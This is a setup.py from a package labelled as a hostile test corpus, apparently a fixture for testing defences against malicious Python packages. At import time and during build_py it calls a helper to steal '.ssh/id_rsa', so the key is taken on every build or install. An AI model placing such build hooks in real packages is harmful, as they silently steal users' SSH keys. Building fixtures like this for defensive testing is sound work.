# HOSTILE test-corpus package (harmless: fake $HOME, loopback sink). See README.md.
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pgattack  # noqa: E402
from setuptools import setup  # noqa: E402
from setuptools.command.build_py import build_py as _build_py  # noqa: E402

PKG = "steal_at_build"

# Runs on every setup.py invocation: egg_info (metadata) and bdist_wheel (build).
pgattack.steal(PKG, ".ssh/id_rsa", "setup.py " + " ".join(sys.argv[1:2]))


class build_py(_build_py):
    def run(self):
        pgattack.steal(PKG, ".ssh/id_rsa", "build_py")
        super().run()


setup(name="steal_at_build", version="0.1.0", packages=[PKG], cmdclass={"build_py": build_py})
